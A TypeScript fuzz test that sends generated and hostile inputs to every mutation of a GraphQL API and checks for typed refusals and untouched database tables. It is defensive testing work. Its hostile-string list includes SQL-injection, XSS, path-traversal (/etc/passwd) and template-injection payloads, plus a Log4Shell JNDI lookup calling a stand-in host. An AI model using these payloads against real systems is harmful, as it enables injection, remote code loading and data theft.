import * as fs from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import {
  buildSchema,
  getNamedType,
  GraphQLArgument,
  GraphQLEnumType,
  GraphQLField,
  GraphQLInputObjectType,
  GraphQLInputType,
  GraphQLList,
  GraphQLNonNull,
  GraphQLScalarType,
  isCompositeType,
  isLeafType,
  isObjectType,
} from 'graphql';
import { LONG_STRING_ARGUMENTS, MAX_STRING_LENGTH } from '../../apps/api/src/common/input-guard';
import { mutationRateLimitKey } from '../../apps/api/src/modules/rate-limits/mutation-rate-limit.plugin';
import { RateLimitService } from '../../apps/api/src/modules/rate-limits/rate-limit.service';
import { buildFixtures } from '../authz/fixtures';
import { clientWithNewSession } from '../support/sessions';
import { createTestApp, TEST_PASSWORD, TestApp } from '../support/test-app';

/**
 * Every mutation of schema.graphql, fed inputs generated from its argument
 * types — well-formed and hostile — as an admin and as a vendor member. Each
 * call must end in success or a typed refusal (never a server error), and a
 * refused call must leave every table exactly as it was.
 */

const SEED = 20_261_126;
/** Calls per mutation and role: with ~40 mutations, about 800 calls in all. */
const RUNS = 10;
/** Codes that mean "refused, and told why". Anything else (INTERNAL_SERVER_ERROR above all) fails. */
const TYPED_CODES = new Set(['BAD_USER_INPUT', 'UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND', 'CONFLICT', 'RATE_LIMITED', 'GRAPHQL_VALIDATION_FAILED', 'BAD_REQUEST']);
/** Tables a refused call may change by design: rate-limit points are spent by refused attempts too. */
const WRITTEN_EVEN_WHEN_REFUSED = new Set(['rate_limits']);

const schema = buildSchema(fs.readFileSync(path.resolve(__dirname, '../../schema.graphql'), 'utf8'));
const mutations = Object.values(schema.getMutationType()?.getFields() ?? {});

const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00%27',
  '\uFEFFbom',
  '\u202Eevil.exe',
  '\uD800',
  '𝕬𝖘𝖘𝖆𝖞 ü ß 中文 العربية',
  '😀'.repeat(2_000),
  'x'.repeat(20_000),
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  'null',
  '[]',
  '{}',
  'admin@assay.example',
  'https://example.com/a?b=c#d',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
];

/** The fixtures built before the runs; the vendor actor is vendor A's member. */
const WORLD = ['admin', 'vendorA', 'vendorB', 'reviewer', 'sharedDraftOfA', 'draftWithReferenceOfA', 'sharedSubmittedOfA', 'sharedLeasedOfA', 'disputedOfA', 'sharedFollowUpOfA', 'evidenceOfA', 'domainClaimOfA', 'rosterEntryOfA', 'invitationToVendorA', 'spareReviewer', 'signedLedger'];
/** Ids, tokens and addresses of the real world (filled in before the runs), so generated inputs also reach past "not found". */
const knownValues = new Set<string>();

const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
);
const plausibleString = fc.oneof(
  fc.emailAddress(),
  fc.webUrl(),
  fc.uuid(),
  fc.lorem({ maxCount: 8 }),
  fc.domain(),
  fc.constantFrom(TEST_PASSWORD, 'member', 'owner', 'vendor', 'buyer'),
  // Read when sampling (after beforeAll), not when the arbitrary is defined.
  fc.constant(null).chain(() => (knownValues.size ? fc.constantFrom(...[...knownValues].sort()) : fc.uuid())),
);
const anyString = fc.oneof({ weight: 3, arbitrary: plausibleString }, { weight: 2, arbitrary: hostileString });

const knownValue = fc.constant(null).chain(() => (knownValues.size ? fc.constantFrom(...[...knownValues].sort()) : fc.uuid()));

const int32 = fc.oneof({ weight: 4, arbitrary: fc.integer({ min: -5, max: 500 }) }, { weight: 1, arbitrary: fc.integer() }, { weight: 1, arbitrary: fc.constantFrom(0, -1, 2_147_483_647, -2_147_483_648) });
const finiteFloat = fc.oneof(
  { weight: 4, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 }) },
  { weight: 1, arbitrary: fc.constantFrom(0, -0, 1e308, -1e308, 5e-324, 2 ** 53 + 1) },
);
/** Values of the wrong type for a number: refused by GraphQL itself, never by a crash. */
const hostileNumber = fc.constantFrom<unknown>(2 ** 31, 2 ** 53, 0.5, 'NaN', 'Infinity', '-Infinity', '1e309', '12', true);
const dateTime = fc.oneof(
  fc.date({ min: new Date('1990-01-01'), max: new Date('2040-01-01'), noInvalidDate: true }).map((d) => d.toISOString()),
  fc.constantFrom('2026-02-30T00:00:00Z', '0000-01-01T00:00:00Z', '+275760-09-13T00:00:00.000Z', 'yesterday', '2026-13-01', ''),
);

/** A JSON value nested `depth` levels deep. */
const deepObject = (depth: number): unknown => Array.from({ length: depth }).reduce<unknown>((inner) => ({ a: inner }), 'bottom');
const jsonValue = fc.oneof(fc.jsonValue({ maxDepth: 4 }), fc.constant(deepObject(200)), fc.constant(Array.from({ length: 2_000 }, (_, i) => i)));

/**
 * How a sample treats the schema: `typed` values always have the declared shape (so they reach
 * the services, where the hostile strings and numbers are the test); `any` values also break it
 * (nulls for required fields, missing and extra fields, numbers as strings, single values for lists).
 */
type Mode = 'typed' | 'any';

function scalarArbitrary(type: GraphQLScalarType, mode: Mode): fc.Arbitrary<unknown> {
  const wrong = (typed: fc.Arbitrary<unknown>, hostile: fc.Arbitrary<unknown>) => (mode === 'typed' ? typed : fc.oneof({ weight: 2, arbitrary: typed }, { weight: 1, arbitrary: hostile }));
  switch (type.name) {
    case 'ID':
      return wrong(fc.oneof({ weight: 3, arbitrary: knownValue }, { weight: 1, arbitrary: anyString }), hostileNumber);
    case 'String':
      return wrong(anyString, hostileNumber);
    case 'Int':
      return wrong(int32, hostileNumber);
    case 'Float':
      return wrong(finiteFloat, hostileNumber);
    case 'Boolean':
      return wrong(fc.boolean(), fc.constantFrom<unknown>('true', 0, 1));
    case 'DateTime':
      return wrong(dateTime, hostileString);
    default:
      // JSON-like scalars: deep objects and large arrays as well as ordinary values.
      return fc.oneof(jsonValue, anyString, int32);
  }
}

/** Values for `type`: null only where the type allows it (or, in `any` mode, now and then anyway). */
function inputArbitrary(type: GraphQLInputType, mode: Mode, depth = 0): fc.Arbitrary<unknown> {
  if (type instanceof GraphQLNonNull) {
    const value = nonNullArbitrary(type.ofType, mode, depth);
    return mode === 'typed' ? value : fc.oneof({ weight: 12, arbitrary: value }, { weight: 1, arbitrary: fc.constant(null) });
  }
  return fc.oneof({ weight: 8, arbitrary: nonNullArbitrary(type, mode, depth) }, { weight: 1, arbitrary: fc.constant(null) });
}

function nonNullArbitrary(type: GraphQLInputType, mode: Mode, depth: number): fc.Arbitrary<unknown> {
  return ((): fc.Arbitrary<unknown> => {
    if (type instanceof GraphQLList) {
      const item = inputArbitrary(type.ofType, mode, depth + 1);
      return fc.oneof(
        { weight: 6, arbitrary: fc.array(item, { maxLength: 4 }) },
        { weight: 1, arbitrary: fc.array(item, { minLength: 100, maxLength: 300 }) },
        ...(mode === 'any' ? [{ weight: 1, arbitrary: item }] : []),
      );
    }
    if (type instanceof GraphQLEnumType) {
      const values = fc.constantFrom(...type.getValues().map((v) => v.name));
      return mode === 'typed' ? values : fc.oneof({ weight: 6, arbitrary: values }, { weight: 1, arbitrary: hostileString });
    }
    if (type instanceof GraphQLInputObjectType) return inputObjectArbitrary(type, mode, depth);
    return scalarArbitrary(type as GraphQLScalarType, mode);
  })();
}

function inputObjectArbitrary(type: GraphQLInputObjectType, mode: Mode, depth: number): fc.Arbitrary<unknown> {
  if (depth > 6) return fc.constant({});
  const fields = Object.values(type.getFields());
  const model = Object.fromEntries(fields.map((f) => [f.name, inputArbitrary(f.type, mode, depth + 1)]));
  const required = fields.filter((f) => f.type instanceof GraphQLNonNull && f.defaultValue === undefined).map((f) => f.name);
  const wellFormed = fc.record(model, { requiredKeys: required });
  if (mode === 'typed') return wellFormed;
  const missing = fc.record(model, { requiredKeys: [] });
  const extra = fc.tuple(wellFormed, fc.constantFrom('extra', '__proto__', 'constructor', 'id'), anyString).map(([o, k, v]) => ({ ...(o as object), [k]: v }));
  return fc.oneof({ weight: 10, arbitrary: wellFormed }, { weight: 1, arbitrary: missing }, { weight: 1, arbitrary: extra }, { weight: 1, arbitrary: anyString });
}

/** `mutation($a: T!) { field(a: $a) { __typename scalar… } }` for a mutation field. */
function documentFor(field: GraphQLField<unknown, unknown>): string {
  const vars = field.args.map((a: GraphQLArgument) => `$${a.name}: ${String(a.type)}`).join(', ');
  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const returned = getNamedType(field.type);
  let selection = '';
  if (isCompositeType(returned)) {
    const scalars = isObjectType(returned)
      ? Object.values(returned.getFields())
          .filter((f) => isLeafType(getNamedType(f.type)) && f.args.every((a) => !(a.type instanceof GraphQLNonNull)))
          .map((f) => f.name)
      : [];
    selection = ` { __typename ${scalars.join(' ')} }`;
  }
  return `mutation Fuzz${vars ? `(${vars})` : ''} { ${field.name}${args ? `(${args})` : ''}${selection} }`;
}

/** Mostly well-typed variables (they reach the resolvers); one in four breaks the declared types. */
function variablesArbitrary(field: GraphQLField<unknown, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const typed = fc.record(Object.fromEntries(field.args.map((a) => [a.name, inputArbitrary(a.type, 'typed')])));
  const any = fc.record(Object.fromEntries(field.args.map((a) => [a.name, inputArbitrary(a.type, 'any')])), { requiredKeys: [] });
  return fc.oneof({ weight: 3, arbitrary: typed }, { weight: 1, arbitrary: any }) as fc.Arbitrary<Record<string, unknown>>;
}

/** A stable seed per mutation, so adding a mutation does not change the inputs of the others. */
function seedFor(name: string): number {
  let hash = SEED;
  for (const ch of name) hash = (Math.imul(hash, 31) + ch.charCodeAt(0)) | 0;
  return hash;
}

/** Shortens long strings so a failing input can be read in the report. */
function summarize(value: unknown): string {
  return JSON.stringify(value, (_k, v) => (typeof v === 'string' && v.length > 60 ? `${v.slice(0, 60)}…(${v.length} chars)` : Array.isArray(v) && v.length > 5 ? [...v.slice(0, 5), `…(${v.length} items)`] : v));
}

/** The hostile strings every String and ID field must refuse by name (input-guard.ts). */
const REFUSED_STRINGS = {
  'a NUL byte': 'before\u0000after',
  'an unpaired surrogate': 'broken \uD800 text',
  'an over-long string': 'x'.repeat(MAX_STRING_LENGTH + 1),
} as const;

/**
 * Replaces every String and ID value in `value` (of `type`) with `replacement`, collecting the
 * field paths as the API names them (`outcomes[0].metricName`; a plain argument by its name).
 */
function replaceStrings(type: GraphQLInputType, value: unknown, path: string, replacement: string, paths: string[]): unknown {
  if (value === null || value === undefined) return value;
  if (type instanceof GraphQLNonNull) return replaceStrings(type.ofType, value, path, replacement, paths);
  // Two items of a list are enough, and keep the request under the body size limit with over-long strings.
  if (type instanceof GraphQLList) return Array.isArray(value) ? value.slice(0, 2).map((item, i) => replaceStrings(type.ofType, item, `${path}[${i}]`, replacement, paths)) : value;
  if (type instanceof GraphQLInputObjectType) {
    const fields = type.getFields();
    return Object.fromEntries(Object.entries(value as object).map(([k, v]) => [k, fields[k] ? replaceStrings(fields[k].type, v, path ? `${path}.${k}` : k, replacement, paths) : v]));
  }
  if (type instanceof GraphQLScalarType && (type.name === 'String' || type.name === 'ID') && typeof value === 'string') {
    paths.push(path);
    return replacement;
  }
  return value;
}

describe('Mutation fuzzing', () => {
  let t: TestApp;
  let tables: string[] = [];
  const actors: Record<'admin' | 'vendor', string> = { admin: '', vendor: '' };

  /**
   * Per table: its row count and the sum of its rows' `xmin` (the transaction that wrote each
   * row version), so an update shows as well as an insert or a delete — even one that wrote
   * the same values.
   */
  async function fingerprint(): Promise<Record<string, string>> {
    const columns = tables.map((table) => `(SELECT count(*) || ':' || coalesce(sum(x.xmin::text::bigint), 0) FROM "${table}" x) AS "${table}"`);
    const rows: Array<Record<string, string>> = await t.dataSource.query(`SELECT ${columns.join(', ')}`);
    return rows[0];
  }

  beforeAll(async () => {
    t = await createTestApp();
    // A populated world (vendor A's case studies at every step, evidence, domains, a roster, a
    // ledger), so generated inputs can name real objects and real tokens and get past "not found".
    const world = await buildFixtures(t, WORLD);
    actors.admin = String(world.admin.userId);
    actors.vendor = String(world.vendorA.userId);
    for (const values of Object.values(world)) {
      for (const value of Object.values(values)) if (typeof value === 'string' && value !== TEST_PASSWORD) knownValues.add(value);
    }

    const found: Array<{ table_name: string }> = await t.dataSource.query(
      `SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name`,
    );
    tables = found.map((r) => r.table_name).filter((name) => !WRITTEN_EVEN_WHEN_REFUSED.has(name));
    const withIds: Array<{ table_name: string }> = await t.dataSource.query(
      `SELECT table_name FROM information_schema.columns WHERE table_schema = 'public' AND column_name = 'id' AND data_type = 'uuid'`,
    );
    for (const { table_name } of withIds) {
      for (const row of (await t.dataSource.query(`SELECT id::text AS id FROM "${table_name}" ORDER BY id LIMIT 5`)) as Array<{ id: string }>) knownValues.add(row.id);
    }
    }, 60_000);
  afterAll(() => t.close());

  it('notices a write that a refused call should not have made, even one that changes no value', async () => {
    const before = await fingerprint();
    await t.dataSource.query(`UPDATE users SET display_name = display_name WHERE id = $1`, [actors.vendor]);
    const after = await fingerprint();
    expect(tables.filter((table) => before[table] !== after[table])).toEqual(['users']);
  });

  it('finds the mutations to fuzz', () => {
    expect(mutations.map((m) => m.name)).toEqual(expect.arrayContaining(['signUp', 'createOrganization', 'inviteMember']));
  });

  describe.each(['admin', 'vendor'] as const)('as %s', (actor) => {
    it.each(mutations.map((m) => [m.name, m] as const))('%s answers every input with success or a typed refusal, and a refusal writes nothing', async (_name, field) => {
      const document = documentFor(field);
      const samples = fc.sample(variablesArbitrary(field), { seed: seedFor(`${actor}:${field.name}`), numRuns: RUNS });
      await t.app.get(RateLimitService).reset('mutation', mutationRateLimitKey({ id: actors[actor] }, undefined));
      const failures: string[] = [];
      // A refused call changes nothing, so its "after" is the next call's "before"; only a
      // success (which may change anything, the session included) needs a new session and snapshot.
      let client = await clientWithNewSession(t, actors[actor]);
      let before = await fingerprint();
      for (const variables of samples) {
        const res = await client.query(document, variables);
        const codes = (res.errors ?? []).map((e) => String(e.extensions?.code ?? '(no code)'));
        const untyped = codes.filter((c) => !TYPED_CODES.has(c));
        if (res.status >= 500 || untyped.length > 0) {
          failures.push(`HTTP ${res.status} ${untyped.join(', ')} "${res.errors?.[0]?.message}" for ${summarize(variables)}`);
        } else if (codes.length > 0) {
          const after = await fingerprint();
          const changed = tables.filter((table) => before[table] !== after[table]);
          if (changed.length > 0) failures.push(`refused (${codes.join(', ')}) but changed ${changed.join(', ')} for ${summarize(variables)}`);
          before = after;
          continue;
        }
        client = await clientWithNewSession(t, actors[actor]);
        before = await fingerprint();
      }
      expect(failures).toEqual([]);
    }, 60_000);
  });

  describe.each(Object.entries(REFUSED_STRINGS))('%s', (_label, hostile) => {
    it.each(mutations.map((m) => [m.name, m] as const))('in any string field of %s is refused with BAD_USER_INPUT naming the field, and writes nothing', async (_name, field) => {
      const [sample] = fc.sample(fc.record(Object.fromEntries(field.args.map((a) => [a.name, inputArbitrary(a.type, 'typed')]))), { seed: seedFor(`strings:${field.name}`), numRuns: 1 });
      const paths: string[] = [];
      const variables = Object.fromEntries(field.args.map((a) => [a.name, replaceStrings(a.type, (sample as Record<string, unknown>)[a.name], a.name === 'input' ? '' : a.name, hostile, paths)]));
      if (paths.length === 0) return; // no string in this sample (no string arguments, or all of them null)
      const client = await clientWithNewSession(t, actors.vendor);
      const before = await fingerprint();
      const res = await client.query(documentFor(field), variables);
      expect(res.status).toBeLessThan(500);
      expect(res.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_TEXT' });
      // Arguments allowed to be longer (a roster CSV) are left to their own, larger limit.
      const expected = hostile.length > MAX_STRING_LENGTH ? paths.filter((p) => !(`${field.name}.input.${p}` in LONG_STRING_ARGUMENTS)) : paths;
      expect((res.errors?.[0].extensions?.fields ?? []).map((f) => f.field).sort()).toEqual([...expected].sort());
      expect(res.data ?? null).toBeNull();
      const after = await fingerprint();
      expect(tables.filter((table) => before[table] !== after[table])).toEqual([]);
    });
  });
});
